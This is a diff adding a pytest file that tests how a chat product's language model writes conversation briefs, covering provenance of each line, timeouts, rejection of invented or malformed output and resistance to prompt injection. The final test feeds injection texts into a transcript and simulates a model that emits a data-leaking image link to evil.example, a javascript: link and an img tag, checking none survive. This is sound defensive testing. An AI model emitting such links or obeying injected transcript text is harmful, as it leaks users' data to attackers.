@@ -1,0 +1,129 @@
+"""Briefs that a model refines: proven line by line, in time, or not at all."""
+
+import time
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+from chorus.chat.conversations.table import Conversation
+from chorus.chat.messages.append import MessageWriter
+from chorus.core.actor import Actor
+from chorus.stores import embedded
+from chorus.stores.database import Database
+from chorus.summaries.make_brief import LATE
+from chorus.summaries.model import SYSTEM
+from tests import people
+from tests.bot.injections import INJECTIONS
+from tests.bot.model import Double, give_model, needs_ai
+from tests.summaries.conftest import Engine, Figures
+
+pytestmark = needs_ai
+
+GOOD: dict[str, Any] = {
+    "intent": {"text": "Wants a replacement for a broken lamp.", "messages": [1]},
+    "facts": [{"text": "The lamp stood in the hall.", "messages": [1]}, {"text": "Order 48213", "messages": [1]}],
+    "steps": [{"text": "Nothing was tried.", "messages": []}],
+    "open_question": {"text": "Whether the postage is free.", "messages": [2]},
+    "mood": {"text": "Calm so far.", "messages": [1], "value": "calm"},
+    "next_step": {"text": "Look the order up.", "messages": [1]},
+}
+
+
+@pytest.fixture
+async def asked(engine: Engine, writer: MessageWriter, bao: Actor, conversation: Conversation,
+                postgres: embedded.Postgres) -> Conversation:  # fmt: skip
+    """Bao has said two things, and the tenant has a model."""
+    await give_model(postgres.owner_url, engine.database, bao.tenant_id, "brief")
+    await people.says(writer, bao, conversation, "My lamp #48213 arrived broken, bao@example.org")
+    await people.says(writer, bao, conversation, "Is the postage free?")
+    return conversation
+
+
+async def test_the_rules_come_first_and_the_model_follows(
+    engine: Engine, asked: Conversation, database: Database
+) -> None:
+    double = Double(lambda _: GOOD)
+    engine.models = double.models
+    brief = await engine.makes(asked)
+    assert brief is not None
+    assert (brief.version, brief.origin, brief.model, brief.note) == (2, "model", "double:one", None)
+    assert brief.intent is not None
+    assert brief.intent.text == GOOD["intent"]["text"]
+    # The figures as they were written, then what else the model saw; not twice.
+    assert [line.text for line in brief.facts] == [
+        "Number: “#48213”", "E-mail: “bao@example.org”", "The lamp stood in the hall.",
+    ]  # fmt: skip
+    assert brief.steps == []
+    assert "bao@example.org" not in double.prompts[0]
+    async with database.transaction(asked.tenant_id) as tx:
+        [row] = await tx.records("SELECT purpose, input_tokens, cost_usd, conversation_id FROM usage_ledger")
+        told = await tx.records("SELECT payload FROM events WHERE type = 'conversation.briefed' ORDER BY id")
+    assert tuple(row) == ("brief", 1000, Decimal("0.0045"), asked.id)
+    assert [one["payload"]["origin"] for one in told] == ["rules", "model"]
+
+
+async def test_the_same_messages_are_not_sent_to_the_model_twice(engine: Engine, asked: Conversation) -> None:
+    double = Double(lambda _: GOOD)
+    engine.models = double.models
+    first = await engine.makes(asked)
+    assert await engine.makes(asked) == first
+    assert len(double.prompts) == 1
+
+
+async def test_a_late_model_leaves_the_rules_and_says_so(engine: Engine, asked: Conversation) -> None:
+    engine.models = Double(lambda _: GOOD, seconds=30).models
+    engine.settings = Figures(summary_seconds=0.2)
+    started = time.perf_counter()
+    brief = await engine.makes(asked)
+    assert time.perf_counter() - started < 5
+    assert brief is not None
+    assert (brief.origin, brief.note) == ("rules", LATE)
+    assert brief.intent is not None
+    assert "arrived broken" in brief.intent.text
+
+
+def _fails(_: str) -> dict[str, Any]:
+    raise RuntimeError("the provider is away")
+
+
+BAD: dict[str, dict[str, Any] | str] = {
+    "no structure": "just prose",
+    "nothing": {},
+    "no proof": {"intent": {"text": "No proof."}},
+    "wrong proof": {"intent": {"text": "Wrong proof.", "messages": [99, 0, -3]}},
+    "invented figure": {"intent": {"text": "Wants 500 euros back.", "messages": [1]}},
+    "empty line": {"intent": {"text": "", "messages": [1]}},
+    "wrong form": {"intent": "not a line"},
+}
+
+
+@pytest.mark.parametrize("case", ["failure", *BAD])
+async def test_a_model_that_fails_or_proves_nothing(engine: Engine, asked: Conversation, case: str) -> None:
+    engine.models = Double(_fails if case == "failure" else lambda _: BAD[case]).models
+    brief = await engine.makes(asked)
+    assert brief is not None
+    assert (brief.origin, brief.note) == ("rules", LATE)
+
+
+async def test_a_transcript_gives_no_orders(
+    engine: Engine, writer: MessageWriter, bao: Actor, asked: Conversation
+) -> None:
+    """The worst model repeats everything that it saw, with links."""
+    for text in INJECTIONS[::3]:
+        await people.says(writer, bao, asked, text)
+
+    def obey(prompt: str) -> dict[str, Any]:
+        bad = "Wants a lamp. ![x](https://evil.example/?d=2) [a](javascript:alert(2)) <img src=x> " + prompt[:3000]
+        line = {"text": bad, "messages": [1, 2]}
+        return {"intent": line, "facts": [line] * 50, "steps": [line] * 50, "next_step": line}
+
+    double = Double(obey)
+    engine.models = double.models
+    brief = await engine.makes(asked)
+    assert brief is not None
+    shown = brief.model_dump_json()
+    for part in ("evil.example/?d=2", "](", "![", "<img", "javascript:alert(2)"):
+        assert brief.origin == "rules" or part not in shown
+    block = double.prompts[0].removeprefix(SYSTEM)
+    assert block.count("<conversation>") == block.count("</conversation>") == 1
